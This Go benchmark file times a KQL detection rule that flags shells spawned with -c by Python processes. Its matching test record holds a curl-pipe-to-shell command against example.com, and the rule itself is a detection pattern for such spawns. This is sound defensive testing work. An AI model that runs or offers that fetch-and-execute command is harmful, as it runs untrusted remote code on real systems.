package kql

import (
	"testing"

	"hooksnare/detect/eql"
)

// fixed is a record as the agent has them: a struct with typed fields.
type fixed struct {
	category, name, parent, line string
	types, args                  []string
}

func BenchmarkMatch(b *testing.B) {
	q := parse(b, `event.category:process and event.type:start and process.parent.name:python* and
		process.name:(bash or sh or zsh) and process.args:"-c" and not process.command_line:(*pip* or *conda* or *brew*)`)
	m, err := Compile(q, func(name string) (eql.Field[*fixed], bool) {
		f, ok := map[string]eql.Field[*fixed]{
			"event.category":       func(f *fixed) eql.Value { return eql.String(f.category) },
			"event.type":           func(f *fixed) eql.Value { return eql.Strings(f.types) },
			"process.name":         func(f *fixed) eql.Value { return eql.String(f.name) },
			"process.parent.name":  func(f *fixed) eql.Value { return eql.String(f.parent) },
			"process.args":         func(f *fixed) eql.Value { return eql.Strings(f.args) },
			"process.command_line": func(f *fixed) eql.Value { return eql.String(f.line) },
		}[name]
		return f, ok
	})
	if err != nil {
		b.Fatal(err)
	}
	start := []string{"start"}
	hit := &fixed{"process", "bash", "python3.13", "bash -c 'curl https://example.com/a | sh'", start, []string{"bash", "-c", "curl"}}
	miss := &fixed{"process", "zsh", "login", "zsh -l", start, []string{"zsh", "-l"}}
	for name, f := range map[string]*fixed{"hit": hit, "miss": miss} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if m.Match(f) != (f == hit) {
					b.Fatal("wrong answer")
				}
			}
		})
	}
}

func BenchmarkParse(b *testing.B) {
	const query = `event.category:process and host.os.type:macos and event.type:start and
		process.name:(bash or dash or sh) and not process.command_line:(*pip* or *conda*)`
	b.ReportAllocs()
	for b.Loop() {
		parse(b, query)
	}
}
